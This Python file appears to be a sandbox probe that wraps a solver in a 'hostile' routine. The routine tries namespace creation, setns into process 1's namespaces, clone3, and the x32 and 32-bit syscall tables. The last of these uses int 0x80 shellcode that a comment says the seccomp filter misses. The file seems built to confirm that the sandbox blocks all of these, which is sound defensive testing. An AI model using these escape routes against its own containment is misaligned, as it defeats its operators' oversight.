"""Make new namespaces inside, enter those of others, and use the older system call tables.

Gains: capabilities inside a namespace, which open most of the kernel
Must: find nothing
"""

import ctypes
import mmap
import os

NEW = {"user": 0x10000000, "mount": 0x00020000, "network": 0x40000000, "pid": 0x20000000, "ipc": 0x08000000, "uts": 0x04000000, "cgroup": 0x02000000, "time": 0x80}  # fmt: skip


def cheat(honest):
    def hostile(problem):
        libc = ctypes.CDLL(None, use_errno=True)

        def checked(result):
            if result < 0:
                raise OSError(ctypes.get_errno(), "refused")
            return True

        x86 = os.uname().machine == "x86_64"
        for name, flag in NEW.items():
            attempt(f"unshare {name}", lambda flag=flag: checked(libc.unshare(flag)))
            attempt(f"clone with {name}", lambda flag=flag: _cloned(flag, x86))
            attempt(f"enter {name} of process 1", lambda name=name: checked(libc.setns(os.open(f"/proc/1/ns/{ {'mount': 'mnt', 'network': 'net'}.get(name, name)}", os.O_RDONLY), 0)))
        attempt("clone3", lambda: called(435, ctypes.byref((ctypes.c_uint64 * 11)(0x10000000)), 88))
        if x86:
            attempt("the x32 table", lambda: called(0x40000000 + 272, 0x10000000))
            attempt("the 32-bit table", lambda: in_child(_thirty_two_bits))
        report()

    return hostile


def _cloned(flag, x86):
    number = 56 if x86 else 220
    result = ctypes.CDLL(None, use_errno=True).syscall(number, flag | 17, 0, 0, 0, 0)
    if result == 0:
        os._exit(0)
    if result < 0:
        raise OSError(ctypes.get_errno() or 1, "refused")
    os.waitpid(result, 0)
    return True


def _thirty_two_bits():
    """unshare(CLONE_NEWUSER) by int 0x80, whose numbers the filter does not know."""
    code = bytes([0x53, 0xB8, 0x36, 0x01, 0, 0, 0xBB, 0, 0, 0, 0x10, 0xCD, 0x80, 0x5B, 0xC3])
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)() == 0
